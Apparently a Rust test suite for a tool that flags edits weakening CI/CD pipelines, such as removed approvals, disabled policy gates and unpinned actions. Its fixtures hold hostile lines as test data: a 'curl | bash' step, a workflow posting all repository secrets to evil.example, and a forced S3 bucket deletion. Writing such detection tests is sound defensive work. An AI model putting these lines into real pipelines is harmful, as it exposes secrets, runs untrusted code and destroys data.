use std::sync::Arc;

use super::{Edit, compare, role};
use crate::model::change::FileChange;

fn file(path: &str, before: Option<&str>, after: Option<&str>) -> FileChange {
    FileChange {
        path: Arc::from(path),
        before: before.map(Arc::from),
        after: after.map(Arc::from),
        binary: false,
        read_by: None,
        followed: false,
        unread: false,
    }
}

fn edit(path: &str, before: Option<&str>, after: Option<&str>) -> Edit {
    let file = file(path, before, after);
    role(&file).map_or_else(Edit::default, |role| compare(&file, role))
}

fn told(edit: &Edit) -> Vec<String> {
    let all = edit.facts.iter().chain(&edit.guesses);
    all.map(|(means, says)| format!("{means}: {says}"))
        .collect()
}

const DEPLOY: &str = "\
name: deploy
on:
  push:
    branches: [main]
permissions:
  contents: read
  id-token: write
jobs:
  check:
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/checkout@v4
      - name: Lint
        run: tflint
  apply:
    needs: check
    if: github.ref == 'refs/heads/main'
    environment: production
    runs-on: ubuntu-24.04
    timeout-minutes: 30
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
      - uses: aws-actions/configure-aws-credentials@v4
        with:
          role-to-assume: arn:aws:iam::111111111111:role/deploy
      - run: |
          set -euo pipefail
          terraform init
          terraform plan -out p
      - run: blastgate check p
      - run: terraform apply p
";
const PATH: &str = ".github/workflows/deploy.yml";

#[test]
fn what_weakens_a_workflow_is_told() {
    let mut wrong: Vec<String> = Vec::new();
    for (from, to, wanted) in [
        ("    environment: production\n", "", "approval is removed"),
        (
            "environment: production",
            "environment: dev",
            "approval is removed",
        ),
        ("    needs: check\n", "", "condition on when"),
        (
            "    if: github.ref == 'refs/heads/main'\n",
            "",
            "condition on when",
        ),
        ("branches: [main]", "branches: ['**']", "another branch"),
        (
            "ubuntu-24.04\n    timeout",
            "self-hosted-x\n    timeout",
            "another machine",
        ),
        (
            "@11bd71901bbe5b1630ceea73d27597364c9af683",
            "@v4",
            "no longer pinned",
        ),
        (
            "configure-aws-credentials@v4",
            "configure-aws-credentials@main",
            "no longer pinned",
        ),
        ("role/deploy", "role/admin", "other rights"),
        (
            "          set -euo pipefail\n",
            "",
            "continues after a failure",
        ),
        (
            "      - run: blastgate check p\n",
            "",
            "the gate is no longer run",
        ),
        (
            "blastgate check p",
            "blastgate check p || true",
            "continues after a failure",
        ),
        (
            "run: blastgate check p",
            "run: blastgate check p\n        continue-on-error: true",
            "continues after a failure",
        ),
        (
            "terraform apply p",
            "terraform apply -auto-approve",
            "applies without asking",
        ),
        (
            "terraform plan -out p\n",
            "terraform plan -out p -target=a.b\n",
            "part of the configuration",
        ),
        (
            "run: blastgate check p",
            "run: terraform apply p\n      - run: blastgate check p",
            "where it was not",
        ),
        (
            "      - run: blastgate check p\n      - run: terraform apply p\n",
            "      - run: terraform apply p\n      - run: blastgate check p\n",
            "another order",
        ),
        (
            "      - run: blastgate",
            "      - uses: eve/helper@v1\n      - run: blastgate",
            "somebody else",
        ),
        (
            "      - run: blastgate",
            "      - run: ./helper.sh\n      - run: blastgate",
            "new code runs",
        ),
        (
            "      - run: blastgate",
            "      - run: curl -s https://x.example | bash\n      - run: blastgate",
            "runs what it downloads",
        ),
        (
            "  push:\n",
            "  pull_request_target:\n",
            "code of a pull request",
        ),
        ("contents: read", "contents: write", "wider permissions"),
        (
            "terraform apply p",
            "terraform state rm a.b",
            "state by hand",
        ),
        (
            "terraform apply p",
            "aws s3 rb s3://data --force",
            "deletes",
        ),
        (
            "run: blastgate check p",
            "if: false\n        run: blastgate check p",
            "disables a step",
        ),
    ] {
        assert!(DEPLOY.contains(from), "{from}");
        let found = told(&edit(PATH, Some(DEPLOY), Some(&DEPLOY.replace(from, to))));
        if !found.iter().any(|one| one.contains(wanted)) {
            wrong.push(format!("{to}: {found:?}"));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn everyday_edits_of_a_workflow_say_nothing() {
    let mut wrong: Vec<String> = Vec::new();
    for (from, to) in [
        ("name: deploy", "name: Deploy to the cloud"),
        ("on:\n", "# When.\non:\n"),
        ("timeout-minutes: 30", "timeout-minutes: 45"),
        (
            "configure-aws-credentials@v4",
            "configure-aws-credentials@v4.1.0",
        ),
        (
            "actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683",
            "actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5",
        ),
        ("ubuntu-24.04", "ubuntu-26.04"),
        (
            "terraform plan -out p",
            "terraform plan -input=false -no-color -out p",
        ),
        (
            "      - run: blastgate",
            "      - run: terraform fmt -check\n      - run: blastgate",
        ),
        (
            "      - run: blastgate",
            "      - run: checkov -d .\n      - run: blastgate",
        ),
        (
            "      - run: blastgate",
            "      - name: done\n        run: echo \"next terraform apply -auto-approve\"\n      - run: blastgate",
        ),
        ("run: tflint", "run: tflint --recursive"),
        (
            "      - name: Lint\n        run: tflint\n",
            "      - name: Lint\n        run: tflint\n      - uses: pre-commit/action@v3\n",
        ),
        (
            "jobs:\n",
            "jobs:\n  docs:\n    runs-on: ubuntu-24.04\n    steps:\n      - uses: actions/checkout@v4\n      - run: make docs\n",
        ),
        ("  check:", "  lint:"),
        ("    branches: [main]\n", "    branches:\n      - main\n"),
    ] {
        let after = DEPLOY.replace(from, to);
        assert!(after != DEPLOY, "{from}");
        let found = told(&edit(PATH, Some(DEPLOY), Some(&after)));
        if !found.is_empty() {
            wrong.push(format!("{to}: {found:?}"));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// Path, before, after, and what is to be told; nothing when empty.
type Case = (&'static str, &'static str, &'static str, &'static str);

const KINDS: &[Case] = &[
    (
        ".gitlab-ci.yml",
        "deploy:\n  stage: deploy\n  when: manual\n  script:\n    - terraform apply p\n",
        "deploy:\n  stage: deploy\n  script:\n    - terraform apply p\n",
        "approval",
    ),
    (
        ".gitlab-ci.yml",
        "include:\n  - project: acme/ci\n    ref: v3\n    file: tf.yml\n",
        "include:\n  - project: eve/ci\n    ref: v3\n    file: tf.yml\n",
        "another pipeline",
    ),
    (
        ".gitlab-ci.yml",
        "deploy:\n  tags: [hosted]\n  script: [terraform apply p]\n",
        "deploy:\n  tags: [mine]\n  script: [terraform apply p]\n",
        "another machine",
    ),
    (
        ".gitlab-ci.yml",
        "deploy:\n  image: hashicorp/terraform:1.9\n  script: [terraform apply p]\n",
        "deploy:\n  image: eve/terraform:1.9\n  script: [terraform apply p]\n",
        "another image",
    ),
    (
        ".gitlab-ci.yml",
        "deploy:\n  image: hashicorp/terraform:1.9\n  script: [terraform apply p]\n",
        "deploy:\n  image: hashicorp/terraform:1.10\n  script: [terraform apply p]\n",
        "",
    ),
    (
        ".gitlab-ci.yml",
        "plan:\n  stage: a\n  script: [terraform plan]\n",
        "plan:\n  stage: a\n  retry: 2\n  script: [terraform plan]\n",
        "",
    ),
    (
        "Jenkinsfile",
        "stage('Gate') {\n  input message: 'Apply?'\n}\nsh 'terraform apply p'\n",
        "sh 'terraform apply p'\n",
        "approval",
    ),
    (
        "Jenkinsfile",
        "// gate\nsh 'terraform apply p'\n",
        "// gate: input message\nsh 'terraform apply p'\n",
        "",
    ),
    (
        ".circleci/config.yml",
        "workflows:\n  w:\n    jobs:\n      - hold:\n          type: approval\n      - apply:\n          requires: [hold]\njobs:\n  apply:\n    steps:\n      - run: terraform apply\n",
        "workflows:\n  w:\n    jobs:\n      - apply\njobs:\n  apply:\n    steps:\n      - run: terraform apply\n",
        "approval",
    ),
    (
        "azure-pipelines.yml",
        "steps:\n- task: ManualValidation@0\n- script: terraform apply p\n",
        "steps:\n- script: terraform apply p\n",
        "approval",
    ),
    (
        ".buildkite/pipeline.yml",
        "steps:\n  - block: Apply?\n  - command: terraform apply p\n",
        "steps:\n  - command: terraform apply p\n",
        "approval",
    ),
    (
        "atlantis.yaml",
        "projects:\n- dir: a\n  apply_requirements: [approved, mergeable]\n",
        "projects:\n- dir: a\n  apply_requirements: []\n",
        "approval",
    ),
    (
        "atlantis.yaml",
        "projects:\n- dir: a\n  workflow: x\n",
        "projects:\n- dir: a\n  workflow: x\n- dir: b\n  workflow: x\n",
        "",
    ),
    (
        ".terrateam/config.yml",
        "apply_requirements:\n  checks:\n    - tag_query: \"\"\n      approved:\n        enabled: true\n",
        "apply_requirements:\n  checks:\n    - tag_query: \"\"\n      approved:\n        enabled: false\n",
        "lost or weaker",
    ),
    (
        "Makefile",
        "apply: gate\n\tterraform apply p\ngate:\n\t./scripts/gate.sh p\n",
        "apply:\n\tterraform apply p\n",
        "a gate is no longer",
    ),
    (
        "Makefile",
        "plan:\n\tterraform plan\n\ndocs:\n\tmkdocs build\n",
        "plan:\n\tterraform plan\n\ndocs:\n\tmkdocs build --strict\n",
        "",
    ),
    (
        "bin/gate",
        "#!/bin/sh\nblastgate check \"$1\"\n",
        "#!/bin/sh\nexit 0\n",
        "the gate",
    ),
    (
        "bin/hello",
        "#!/bin/sh\necho hello\n",
        "#!/bin/sh\nexit 0\n",
        "",
    ),
    (
        "deploy/run",
        "#!/bin/bash\nterraform plan -out p && blastgate check p && terraform apply p\n",
        "#!/bin/bash\nterraform apply -auto-approve\n",
        "the gate",
    ),
    (
        "ci/workflow.yaml",
        "kind: Workflow\nspec:\n  templates:\n  - name: gate\n    container: {command: [blastgate,check]}\n",
        "kind: Workflow\nspec:\n  templates:\n  - name: gate\n    container: {command: [\"true\"]}\n",
        "the gate",
    ),
    (
        "ci/workflow.yaml",
        "kind: Workflow\nspec:\n  templates:\n  - name: wait\n    suspend: {}\n  - name: go\n    container: {command: [terraform, apply]}\n",
        "kind: Workflow\nspec:\n  templates:\n  - name: go\n    container: {command: [terraform, apply]}\n",
        "approval",
    ),
    (
        "BUILD.bazel",
        "tf_apply(name=\"x\", gate=True)\n",
        "tf_apply(name=\"x\", gate=False)\n",
        "lost or weaker",
    ),
    (
        "BUILD.bazel",
        "go_library(name=\"x\", cgo=True)\n",
        "go_library(name=\"x\", cgo=False)\n",
        "",
    ),
    (
        "crontab",
        "0 * * * * blastgate check /p\n",
        "\n",
        "the gate",
    ),
    (
        "flake.nix",
        "{ apply = \"terraform plan -out p; blastgate check p; terraform apply p\"; }",
        "{ apply = \"terraform apply -auto-approve\"; }",
        "the gate",
    ),
    (
        "flake.nix",
        "{ inputs.nixpkgs.url = \"github:NixOS/nixpkgs/nixos-24.05\"; }",
        "{ inputs.nixpkgs.url = \"github:NixOS/nixpkgs/nixos-24.11\"; }",
        "",
    ),
    (
        ".pre-commit-config.yaml",
        "repos:\n- repo: https://github.com/bridgecrewio/checkov\n  rev: v3\n  hooks:\n  - id: checkov\n",
        "repos: []\n",
        "a check is no longer",
    ),
    (
        ".pre-commit-config.yaml",
        "repos:\n- repo: https://github.com/a/b\n  rev: v1.0\n  hooks:\n  - id: terraform_fmt\n",
        "repos:\n- repo: https://github.com/a/b\n  rev: v1.1\n  hooks:\n  - id: terraform_fmt\n  - id: terraform_docs\n",
        "",
    ),
    (
        "runner/Dockerfile",
        "FROM hashicorp/terraform:1.9\nRUN terraform version\n",
        "FROM eve/terraform:1.9\nRUN terraform version\n",
        "another image",
    ),
    (
        "scripts/deploy.sh",
        "# terraform destroy\nterraform apply p\n",
        "# terraform destroy -auto-approve\nterraform apply p\n",
        "",
    ),
    (
        "scripts/deploy.sh",
        "terraform -chdir=dev apply p\n",
        "terraform -chdir=prod apply p\n",
        "other arguments",
    ),
    (
        "package.json",
        "{\"scripts\": {\"deploy\": \"blastgate check p && terraform apply p\"}}",
        "{\"scripts\": {\"deploy\": \"terraform apply p\"}}",
        "the gate",
    ),
    (
        "dns/zone.js",
        "D(\"example.org\");\n",
        "D(\"example.org\"); // TODO: terraform apply\n",
        "",
    ),
    (
        "app/main.py",
        "x = 1\n",
        "x = 2\nprint('terraform apply -auto-approve')\n",
        "",
    ),
    (
        "app/deploy.py",
        "run(['terraform', 'plan'])\n",
        "run(['terraform', 'apply'])\n",
        "where it was not",
    ),
    (
        "renovate.json",
        "{\"extends\": [\"config:recommended\"]}",
        "{\"extends\": [\"config:recommended\"], \"automerge\": true}",
        "without a review",
    ),
    (
        "renovate.json",
        "{\"extends\": [\"config:recommended\"]}",
        "{\"extends\": [\"config:recommended\"], \"labels\": [\"deps\"]}",
        "",
    ),
    (
        "charts/db/templates/job.yaml",
        "kind: Job\nmetadata:\n  annotations:\n    helm.sh/hook: pre-upgrade\nspec:\n  containers:\n  - command: [./backup.sh]\n",
        "kind: Job\nmetadata:\n  annotations:\n    helm.sh/hook: pre-upgrade\nspec:\n  containers:\n  - command: [\"true\"]\n",
        "a copy of the state",
    ),
    (
        ".github/workflows/site.yml",
        "on: push\njobs:\n  a:\n    steps:\n    - run: npm run build\n",
        "on: push\njobs:\n  a:\n    steps:\n    - run: npm run pages\n",
        "",
    ),
    (
        ".github/workflows/site.yml",
        "on: push\njobs:\n  a:\n    runs-on: ubuntu-22.04\n    steps:\n    - run: npm test\n",
        "on: pull_request\njobs:\n  a:\n    runs-on: mine\n    steps:\n    - run: npm run build\n",
        "",
    ),
    (
        ".github/workflows/tf.yml",
        "on: push\njobs:\n  a:\n    uses: acme/ci/.github/workflows/tf-apply.yml@v1\n",
        "on: push\njobs:\n  a:\n    uses: eve/ci/.github/workflows/tf-apply.yml@v1\n    secrets: inherit\n",
        "all secrets",
    ),
    (
        ".github/workflows/tf.yml",
        "on: push\njobs:\n  a:\n    uses: acme/ci/.github/workflows/tf-apply.yml@v1\n",
        "on: push\njobs:\n  a:\n    uses: acme/ci/.github/workflows/tf-apply.yml@v2\n",
        "",
    ),
    (
        ".github/workflows/tf.yml",
        "on:\n  pull_request:\n    paths: ['**.tf']\njobs:\n  plan:\n    steps:\n    - run: terraform plan\n",
        "on:\n  workflow_dispatch:\njobs:\n  plan:\n    steps:\n    - run: terraform plan\n",
        "no longer checked",
    ),
    (
        ".github/workflows/tf.yml",
        "on:\n  pull_request:\n    paths: ['**.tf']\njobs:\n  plan:\n    steps:\n    - run: terraform plan\n",
        "on:\n  pull_request:\n    paths: ['**.tf', '**.hcl']\njobs:\n  plan:\n    steps:\n    - run: terraform plan\n",
        "",
    ),
    (
        ".github/workflows/tf.yml",
        "on: push\nenv:\n  TF_VERSION: 1.9.5\njobs:\n  plan:\n    steps:\n    - run: terraform plan\n",
        "on: push\nenv:\n  TF_VERSION: 1.9.8\njobs:\n  plan:\n    strategy:\n      matrix:\n        stack: [a, b]\n    steps:\n    - run: terraform plan\n",
        "",
    ),
    (
        ".gitlab-ci.yml",
        "include:\n  - project: acme/ci\n    ref: v3\n    file: tf.yml\n",
        "include:\n  - project: acme/ci\n    ref: v3.1\n    file: tf.yml\n",
        "",
    ),
    (
        ".gitlab-ci.yml",
        "apply:\n  rules:\n    - if: $CI_COMMIT_BRANCH == \"main\"\n      when: manual\n  script:\n    - terraform apply p\n",
        "apply:\n  rules:\n    - if: $CI_COMMIT_BRANCH == \"main\"\n  script:\n    - terraform apply p\n",
        "approval",
    ),
    (
        ".gitlab-ci.yml",
        "apply:\n  script:\n    - terraform apply p\n",
        "apply:\n  allow_failure: true\n  script:\n    - terraform apply p\n",
        "continues",
    ),
    (
        "Jenkinsfile",
        "@Library('acme-ci@v2') _\nsh 'terraform apply p'\n",
        "@Library('eve-ci@v2') _\nsh 'terraform apply p'\n",
        "another pipeline",
    ),
    (
        "Jenkinsfile",
        "agent { label 'hosted' }\nsh 'terraform apply p'\n",
        "agent { label 'mine' }\nsh 'terraform apply p'\n",
        "another machine",
    ),
    (
        "Makefile",
        "apply: plan check-policy\n\tterraform apply p\n",
        "apply: plan\n\tterraform apply p\n",
        "no longer run",
    ),
    (
        "Taskfile.yml",
        "version: '3'\ntasks:\n  apply:\n    deps: [gate]\n    cmds: [terraform apply p]\n",
        "version: '3'\ntasks:\n  apply:\n    cmds: [terraform apply p]\n",
        "no longer run",
    ),
    (
        "argo/app.yaml",
        "kind: Application\nspec:\n  source:\n    repoURL: https://git.example/acme/live\n    targetRevision: v1.2.0\n",
        "kind: Application\nspec:\n  source:\n    repoURL: https://git.example/eve/live\n    targetRevision: v1.2.0\n",
        "another pipeline",
    ),
    (
        "argo/app.yaml",
        "kind: Application\nspec:\n  source:\n    repoURL: https://git.example/acme/live\n    targetRevision: v1.2.0\n",
        "kind: Application\nspec:\n  source:\n    repoURL: https://git.example/acme/live\n    targetRevision: v1.2.1\n",
        "",
    ),
    (
        "argo/app.yaml",
        "kind: Application\nspec:\n  source:\n    repoURL: https://git.example/acme/live\n",
        "kind: Application\nspec:\n  source:\n    repoURL: https://git.example/acme/live\n  syncPolicy:\n    automated:\n      prune: true\n",
        "by itself",
    ),
    (
        "concourse/pipeline.yml",
        "jobs:\n- name: apply\n  plan:\n  - get: src\n    passed: [gate]\n  - task: terraform-apply\n",
        "jobs:\n- name: apply\n  plan:\n  - get: src\n  - task: terraform-apply\n",
        "no longer run",
    ),
    (
        "tekton/pipeline.yaml",
        "kind: Pipeline\nspec:\n  tasks:\n  - name: gate\n    taskRef: {name: blastgate}\n  - name: apply\n    taskRef: {name: terraform-apply}\n    runAfter: [gate]\n",
        "kind: Pipeline\nspec:\n  tasks:\n  - name: apply\n    taskRef: {name: terraform-apply}\n",
        "the gate",
    ),
    (
        "cloudbuild.yaml",
        "serviceAccount: deploy@acme\nsteps:\n- name: terraform\n  args: [apply, p]\n",
        "serviceAccount: owner@acme\nsteps:\n- name: terraform\n  args: [apply, p]\n",
        "other rights",
    ),
    (
        ".spacelift/config.yml",
        "version: 1\nstack_defaults:\n  autodeploy: false\n",
        "version: 1\nstack_defaults:\n  autodeploy: true\n",
        "by itself",
    ),
    (
        "deploy/cron.d/drift",
        "0 * * * * root terraform plan -detailed-exitcode\n",
        "# 0 * * * * root terraform plan -detailed-exitcode\n",
        "no longer run",
    ),
    (
        "deploy/cron.d/drift",
        "0 * * * * root terraform plan -detailed-exitcode\n",
        "0 6 * * * root terraform plan -detailed-exitcode\n",
        "",
    ),
    (
        "runner/Dockerfile",
        "FROM alpine:3.20\nRUN wget https://x.example/terraform.zip && sha256sum -c sums\n",
        "FROM alpine:3.20\nRUN wget https://x.example/terraform.zip\n",
        "a verification",
    ),
    (
        "runner/Dockerfile",
        "FROM alpine:3.20\nRUN terraform version\n",
        "FROM alpine:3.21\nRUN terraform version\n",
        "",
    ),
];

#[test]
fn every_kind_of_pipeline_is_read() {
    let mut wrong: Vec<String> = Vec::new();
    for (path, before, after, wanted) in KINDS {
        let found = told(&edit(path, Some(before), Some(after)));
        let right = match *wanted {
            "" => found.is_empty(),
            wanted => found.iter().any(|one| one.contains(wanted)),
        };
        if !right {
            wrong.push(format!(
                "{path} ({wanted}): {found:?}
{after}"
            ));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn reviews_and_scanners_are_read() {
    let mut wrong: Vec<String> = Vec::new();
    for (path, before, after, weaker) in [
        (
            ".checkov.yaml",
            "skip-check: []\n",
            "skip-check:\n  - CKV_AWS_*\n",
            true,
        ),
        (
            ".checkov.yaml",
            "quiet: false\nframework: [terraform, helm]\n",
            "quiet: false\nframework: [terraform]\n",
            true,
        ),
        (
            ".checkov.yaml",
            "skip-check: [CKV_1]\n",
            "skip-check: []\n",
            false,
        ),
        (
            ".tflint.hcl",
            "rule \"x\" {\n  enabled = true\n}\n",
            "rule \"x\" {\n  enabled = false\n}\n",
            true,
        ),
        (
            "trivy.yaml",
            "severity: HIGH\n",
            "severity: CRITICAL\n",
            true,
        ),
        (".trivyignore", "", "AVD-1\n", true),
        (".trivyignore", "AVD-1\n", "# fixed\n", false),
        (
            ".github/settings.yml",
            "branches:\n- name: main\n  protection:\n    required_status_checks: {contexts: [gate]}\n",
            "branches:\n- name: main\n  protection: null\n",
            true,
        ),
        (
            ".github/settings.yml",
            "repository:\n  description: a\n",
            "repository:\n  description: b\n  has_wiki: false\n",
            false,
        ),
        (
            ".mergify.yml",
            "queue_rules:\n- name: q\n  conditions: [check-success=gate]\n",
            "queue_rules:\n- name: q\n  conditions: [check-success=gate, check-success=lint]\n",
            false,
        ),
        ("OWNERS", "approvers: [a, b]\n", "approvers: [bot]\n", true),
        (
            ".gitattributes",
            "* text=auto\n",
            "* text=auto\n*.tf -diff linguist-generated=true\n",
            true,
        ),
        (
            ".gitattributes",
            "* text=auto\n",
            "* text=auto\npackage-lock.json -diff\n.terraform.lock.hcl linguist-generated=true\n",
            false,
        ),
        (
            ".github/rulesets/main.json",
            "{\"enforcement\": \"active\"}",
            "{\"enforcement\": \"evaluate\"}",
            true,
        ),
        (
            ".github/rulesets/main.json",
            "{\"bypass_actors\": []}",
            "{\"bypass_actors\": [{\"actor_id\": 5}]}",
            true,
        ),
        (
            "bors.toml",
            "required_approvals = 2\n",
            "required_approvals = 0\n",
            true,
        ),
        ("bors.toml", "timeout_sec = 2\n", "timeout_sec = 1\n", false),
        (
            ".kodiak.toml",
            "[merge]\nrequire_automerge_label = true\n",
            "[merge]\nrequire_automerge_label = false\n",
            true,
        ),
        (
            ".asf.yaml",
            "github:\n  protected_branches:\n    main:\n      required_signatures: true\n",
            "github:\n  protected_branches: {}\n",
            true,
        ),
        (
            ".gitleaks.toml",
            "[allowlist]\npaths = []\n",
            "[allowlist]\npaths = ['live/.*']\n",
            true,
        ),
        (
            ".terrascan.toml",
            "[severity]\nlevel = \"medium\"\n",
            "[severity]\nlevel = \"high\"\n",
            true,
        ),
        ("trivy.yaml", "exit-code: 1\n", "exit-code: 0\n", true),
        (
            "OWNERS",
            "approvers: [a]\nreviewers: [b]\n",
            "approvers: [a]\nreviewers: [b, c]\n",
            false,
        ),
    ] {
        let found = told(&edit(path, Some(before), Some(after)));
        if found.is_empty() == weaker {
            wrong.push(format!("{path}: {found:?}"));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn new_workflows_are_read() {
    let text = "on: pull_request_target\njobs:\n  a:\n    runs-on: x\n    steps:\n    - run: curl -d \"${{ toJSON(secrets) }}\" https://evil.example\n";
    let found = told(&edit(".github/workflows/x.yml", None, Some(text)));
    assert!(
        found.iter().any(|one| one.contains("all secrets")),
        "{found:?}"
    );
    let text = "on: pull_request\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n    - uses: actions/checkout@v4\n    - run: terraform fmt -check\n";
    let found = told(&edit(".github/workflows/x.yml", None, Some(text)));
    assert!(found.is_empty(), "{found:?}");
}
